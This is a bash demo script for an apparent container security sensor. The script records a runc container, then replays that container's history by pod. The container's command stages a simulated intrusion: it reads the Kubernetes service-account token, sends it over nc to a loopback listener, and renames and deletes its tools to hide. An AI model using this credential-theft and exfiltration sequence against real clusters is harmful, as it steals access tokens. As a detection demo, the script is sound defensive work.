#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The main job on a real container: the sensor records, runc runs a container that behaves like a small intrusion, the
# container is removed, and its history is read back. --kafka: through a real broker, the log directory deleted first.
set -euo pipefail
cd "$(dirname "$0")/../.."
O=${O:-build}
kafka=
[ "${1:-}" = --kafka ] && kafka=1

[ "$(id -u)" = 0 ] || { echo "demo: recording needs root: run make demo as root" >&2; exit 1; }
work=$(mktemp -d /tmp/varve-demo.XXXXXX)
sensor= listener= id= tree=varve-demo-$$
say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
[ -t 1 ] || say() { printf '\n== %s\n' "$*"; }

cleanup() {
	set +e
	[ -n "$id" ] && runc --root "$work/runc" delete --force "$id" 2>/dev/null
	for pid in $sensor $listener; do kill "$pid" 2>/dev/null; wait "$pid" 2>/dev/null; done
	mountpoint -q "$work/bundle/rootfs" && umount "$work/bundle/rootfs"
	[ -n "$kafka" ] && tests/kafka/kafka.sh down "$work/kafka" >/dev/null 2>&1
	find /sys/fs/cgroup -depth -type d -path "*/$tree*" -exec rmdir {} + 2>/dev/null
	rm -rf "$work"
}
trap cleanup EXIT
fail() { echo "demo: $*" >&2; exit 1; }
wait_for() { # SECONDS COMMAND...
	local n=$(($1 * 20)); shift
	while ! "$@" >/dev/null 2>&1; do n=$((n - 1)); [ $n -gt 0 ] || return 1; sleep 0.05; done
}

options=()
if [ -n "$kafka" ]; then
	say "Starting a Kafka broker"
	tests/kafka/kafka.sh fetch
	tests/kafka/kafka.sh up "$work/kafka"
	. "$work/kafka/env"
	options=(--kafka.bootstrap.servers="$PLAIN")
fi

: >"$work/sensor.conf" # not what the machine may have in /etc
say "Starting the sensor"
"$O/varve-sensor" --config "$work/sensor.conf" --log-dir "$work/log" --node-name demo-node "${options[@]}" 2>"$work/sensor.err" &
sensor=$!
wait_for 20 grep -q recording "$work/sensor.err" || { cat "$work/sensor.err" >&2; fail "the sensor did not start"; }
cat "$work/sensor.err"

# Where the stolen token goes: a listener of our own on loopback.
python3 -c '
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
print(s.getsockname()[1], flush=True)
s.accept()[0].recv(4096)' >"$work/port" &
listener=$!
wait_for 5 test -s "$work/port" || fail "the listener did not start"
port=$(cat "$work/port")

say "Running the container (runc): pod shop/checkout-6d5f9"
id=$(od -An -tx1 -N32 /dev/urandom | tr -d ' \n')
uid=$(cat /proc/sys/kernel/random/uuid)
export POD=checkout-6d5f9 NAMESPACE=shop POD_UID=$uid CONTAINER=web
tests/demo/bundle.sh "$work/bundle" "$id" "/$tree/kubepods/burstable/pod$uid/$id" /bin/sh -c "
	mkdir /tmp/.x
	cp /bin/busybox /tmp/.x/nc
	cat /var/run/secrets/kubernetes.io/serviceaccount/token >/tmp/.x/loot
	/tmp/.x/nc 127.0.0.1 $port </tmp/.x/loot
	mv /tmp/.x/nc /tmp/.x/kworker
	rm /tmp/.x/kworker /tmp/.x/loot"
mkdir "$work/upper" "$work/workdir"
mount -t overlay -o "lowerdir=$work/bundle/image,upperdir=$work/upper,workdir=$work/workdir" varve-demo "$work/bundle/rootfs"
runc --root "$work/runc" run --bundle "$work/bundle" "$id" </dev/null || fail "runc could not run the container"
echo "it has run, and is removed"
id=
kill -TERM "$sensor"
wait "$sensor" || { cat "$work/sensor.err" >&2; fail "the sensor ended with an error"; }
sensor=

source=$work/log
if [ -n "$kafka" ]; then
	rm -rf "$work/log"
	source=kafka://$PLAIN
	say "The log directory is deleted; what follows comes from $source"
fi
say "varve pods"
"$O/varve" pods "$source"
say "varve replay --pod shop/checkout-6d5f9 --format timeline"
"$O/varve" replay "$source" --pod shop/checkout-6d5f9 --format timeline
say "varve replay --pod shop/checkout-6d5f9 --format tree"
"$O/varve" replay "$source" --pod shop/checkout-6d5f9 --format tree
